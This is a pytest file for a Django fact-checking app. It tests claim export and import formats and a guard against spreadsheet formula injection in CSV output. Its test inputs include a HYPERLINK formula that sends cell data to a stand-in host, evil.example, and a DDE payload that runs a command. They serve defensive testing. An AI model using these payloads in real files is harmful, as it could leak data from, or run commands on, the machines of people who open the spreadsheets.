"""What else is handed out: drafts for another desk, what is published, tables that compute nothing."""

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import jsonschema
import pytest
from django.core.management import CommandError, call_command

from claims import models
from claims.importers import bundle_schema
from claims.rules.cells import FORMULA_STARTS, OWN_COLUMNS, bare_cell, safe_cell
from tests import factories
from tests.exporters import desks

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    "''-1",
    "=cmd|' /C calc'!A0",
)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def full(groups):
    return desks.full_desk()


def rows_of(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("scope", ["--drafts", "--published"])
@pytest.mark.parametrize("name", ["bundle.json", "bundle.jsonl"])
def test_bundle_for_another_desk_arrives_there_as_drafts(groups, tmp_path, scope, name):
    with desks.another_database():
        desks.full_desk()
        desks.exported(tmp_path / name, scope)
        standing = set(models.Publication.objects.standing().values_list("claim_slug", flat=True))

    call_command("import_claims", str(tmp_path / name))

    found = set(models.Verdict.objects.values_list("claim__slug", flat=True))
    at_work = {"a-draft", "read-outside", "taken-back"}
    assert found == standing | (at_work if scope == "--drafts" else set())
    assert set(models.Verdict.objects.values_list("state", "version")) == {("draft", 1)}
    assert not models.Edition.objects.exists()


def test_drafts_say_the_same_when_they_are_handed_on(groups, tmp_path):
    with desks.another_database():
        desks.full_desk()
        left = desks.exported(tmp_path / "left.jsonl", "--drafts")
    call_command("import_claims", str(tmp_path / "left.jsonl"))

    assert desks.exported(tmp_path / "back.jsonl", "--drafts") == left


def test_bundles_for_other_desks_fit_the_published_schema(full, tmp_path):
    for scope in ("--drafts", "--published"):
        records = json.loads(desks.exported(tmp_path / "bundle.json", scope))
        jsonschema.validate(records, bundle_schema.schema(), cls=jsonschema.Draft202012Validator)


def test_what_is_published_is_made_from_editions_alone(full, tmp_path):
    """Twice the same, though the desk goes on working."""
    formats = ("bundle", "jsonl", "csv", "claimreview", "annotations")
    before = [desks.exported(tmp_path / name, "--format", name) for name in formats]

    models.Claim.objects.update(statement="Something else entirely.", note="Secret.")
    models.Party.objects.update(name="Somebody else")
    factories.VerdictFactory(claim__slug="a-draft-more")

    assert [desks.exported(tmp_path / name, "--format", name) for name in formats] == before
    assert not any(b"Something else" in content or b"a-draft" in content for content in before)


@pytest.mark.parametrize("name", ["csv", "claimreview"])
def test_importer_reads_what_is_published(groups, tmp_path, name):
    path = tmp_path / {"csv": "checks.csv", "claimreview": "feed.jsonld"}[name]
    with desks.another_database():
        desks.full_desk()
        desks.exported(path, "--format", name)
        standing = models.Publication.objects.standing().count()

    call_command("import_claims", str(path))

    said = set(models.ForeignReview.objects.values_list("label", flat=True))
    assert said == ({"true"} if name == "csv" else {"true", "wahr"})
    assert models.Claim.objects.count() == standing + (1 if name == "claimreview" else 0)


def test_annotations_are_those_of_their_own_command(full, tmp_path, capsys):
    call_command("export_annotations", output=str(tmp_path / "theirs.jsonld"))

    found = desks.exported(tmp_path / "ours.jsonld", "--format", "annotations")

    assert json.loads(found) == json.loads((tmp_path / "theirs.jsonld").read_text())


def test_last_line_says_how_much_was_written(full, tmp_path, capsys):
    desks.exported(tmp_path / "checks.csv")
    desks.exported(tmp_path / "feed.jsonld")

    said = capsys.readouterr().out.splitlines()
    standing = models.Publication.objects.standing().count()
    assert said[0] == f"{standing} checks"
    assert len(rows_of((tmp_path / "checks.csv").read_bytes())) == standing


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["--all", "--format", "csv"], "is made from what is published"),
        (["--drafts", "--output", "x.zip"], "A zip is for --all"),
        (["--output", "/nowhere/at/all.json"], "No such file or directory"),
    ],
)
def test_what_cannot_be_written_is_refused_with_a_sentence(db, arguments, sentence):
    with pytest.raises(CommandError, match=sentence):
        call_command("export_claims", *arguments)


def test_export_that_fails_leaves_the_old_file_and_no_half_one(full, tmp_path):
    path = tmp_path / "desk.zip"
    path.write_bytes(b"the one before")
    Path(models.Snapshot.objects.first().file.path).unlink()

    with pytest.raises(CommandError, match="is gone from the store"):
        call_command("export_claims", "--all", output=str(path))

    assert path.read_bytes() == b"the one before"
    assert [one.name for one in tmp_path.iterdir() if one.name.startswith(".")] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_guard_is_put_on_and_taken_off_again(text):
    assert not safe_cell(text).startswith(FORMULA_STARTS)
    assert bare_cell(safe_cell(text)) == text
    assert safe_cell("’tis 40 %") == "’tis 40 %"


@pytest.fixture
def formulas(groups, tmp_path):
    """A table of checks whose claims look like formulas."""
    with desks.another_database():
        for number, text in enumerate(FORMULAS):
            verdict = factories.VerdictFactory(claim__slug=f"claim-{number}", claim__statement=text)
            factories.published(verdict=verdict)
        desks.exported(tmp_path / "checks.csv")
    return tmp_path / "checks.csv"


def test_our_own_table_is_read_without_the_guard(formulas):
    assert [row["statement"][0] for row in rows_of(formulas.read_bytes())] == ["'"] * len(FORMULAS)

    call_command("import_claims", str(formulas))

    # A tab at the beginning is no part of any text of the desk.
    assert set(models.Claim.objects.values_list("statement", flat=True)) == {
        text.strip() for text in FORMULAS
    }


def test_tables_of_others_keep_their_apostrophes(tmp_path):
    path = tmp_path / "theirs.csv"
    path.write_text("claim,rating,url\n'-tis cheap,False,https://checkers.example/1\n", encoding="utf-8")

    call_command("import_claims", str(path))

    assert models.Claim.objects.get().statement == "'-tis cheap"


def test_spreadsheet_computes_nothing_of_it(formulas, tmp_path):
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (soffice)")
    plain = tmp_path / "naive.csv"
    plain.write_text("statement\n=40+2\n", encoding="utf-8")

    for path in (formulas, plain):
        # 44, 34, 76: comma, quotation mark, UTF-8.
        command = [
            soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "fods",
            "--infilter=CSV:44,34,76,1,,0,false,true,false", "--outdir", str(tmp_path), str(path),
        ]  # fmt: skip
        subprocess.run(command, capture_output=True, check=True, timeout=180)

    opened = (tmp_path / "checks.fods").read_text(encoding="utf-8")
    assert "table:formula" in (tmp_path / "naive.fods").read_text(encoding="utf-8")
    assert "HYPERLINK" in opened
    assert "table:formula" not in opened
    assert all(name in opened for name in OWN_COLUMNS)
